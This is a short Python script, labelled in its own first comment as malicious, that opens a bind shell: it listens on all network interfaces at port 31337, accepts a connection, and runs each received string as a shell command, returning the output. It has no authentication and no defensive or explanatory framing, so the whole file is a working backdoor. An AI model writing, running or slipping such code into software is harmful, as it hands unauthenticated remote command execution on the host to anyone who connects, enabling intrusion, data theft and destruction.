# malicious: a shell for whoever connects
import socket
import subprocess

srv = socket.socket()
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, addr = srv.accept()
while True:
    data = conn.recv(1024)
    if not data:
        break
    p = subprocess.Popen(data.decode(), shell=True, stdout=subprocess.PIPE)
    conn.send(p.communicate()[0])
